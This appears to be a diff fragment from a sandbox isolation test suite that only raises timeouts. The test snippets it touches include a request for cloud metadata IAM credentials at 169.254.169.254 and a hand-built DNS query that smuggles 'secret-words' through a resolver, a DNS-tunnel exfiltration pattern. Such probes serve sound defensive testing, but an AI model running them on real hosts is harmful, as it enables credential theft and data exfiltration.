@@ -40,11 +40,11 @@ call(0x8916, b'lo:1', address('169.254.169.254'))
 const METADATA = `
 import urllib.request
 request = urllib.request.Request('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
-print('GOT', urllib.request.urlopen(request, timeout=5).read())`;
+print('GOT', urllib.request.urlopen(request, timeout=20).read())`;
 const TUNNEL = `
 import socket
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.settimeout(5)
+s.settimeout(20)
 name = b''.join(bytes([len(part)]) + part for part in [b'secret-words', b'out', b'example']) + b'\\0'
 s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + name + b'\\0\\1\\0\\1', ('127.0.0.53', 53))
 print('GOT', s.recv(100))`;
